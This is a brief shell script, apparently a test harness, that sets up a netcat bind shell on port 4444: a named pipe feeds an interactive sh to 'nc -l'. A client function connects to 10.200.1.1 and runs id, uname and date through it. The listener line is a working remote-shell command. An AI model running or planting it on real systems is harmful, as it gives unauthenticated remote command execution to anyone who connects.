# nc waits for a connection; cat reads for the shell what nc writes to a named pipe.
ask() { (echo id; sleep 0.3; echo uname; sleep 0.3; echo date; sleep 0.3; echo exit) | timeout 5 nc -N 10.200.1.1 4444 > got; }
peers() { again ask & }
scene() {
  mkfifo f
  cat f | sh -i 2>&1 | timeout 6 nc.openbsd -l 4444 > f
}
